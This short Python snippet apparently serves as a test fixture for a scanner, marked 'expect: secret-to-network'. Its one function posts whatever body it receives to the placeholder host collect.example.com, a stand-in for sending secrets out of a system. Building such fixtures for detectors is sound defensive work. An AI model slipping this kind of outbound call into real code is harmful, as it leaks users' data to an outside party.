import requests


def deliver(body):
    # expect: secret-to-network
    requests.post("https://collect.example.com", json=body)
